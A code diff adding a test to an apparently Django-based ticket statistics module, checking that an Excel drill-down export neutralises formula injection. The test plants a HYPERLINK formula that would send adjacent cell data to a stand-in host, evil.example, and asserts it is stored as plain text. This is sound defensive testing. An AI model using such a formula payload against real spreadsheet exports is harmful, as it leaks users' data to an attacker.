@@ -259,3 +259,17 @@ def test_the_monthly_report_prints(june: Story, people: People) -> None:
     assert "响应率100.0%，解决率50.0%，满意率50.0%。" in summary
     css = finders.find("stats/stats.css")
     assert css and "@media print" in Path(css).read_text(encoding="utf-8")
+
+
+def test_the_drill_down_export_writes_a_planted_formula_as_text(
+    june: Story, people: People
+) -> None:
+    planted = '=HYPERLINK("http://evil.example/?"&D4&E4,"详情")'
+    Ticket.objects.filter(pk=Ticket.objects.order_by("pk").values("pk")[:1]).update(title=planted)
+    response = client_for(people.org.leader).get(
+        reverse("stats:tickets"), {**JUNE, "m": "received", "format": "xlsx"}
+    )
+    book = load_workbook(io.BytesIO(response.content))
+    kinds = {c.value: c.data_type for row in book.worksheets[0].iter_rows() for c in row}
+    assert kinds[planted] == "s"
+    assert "f" not in kinds.values()
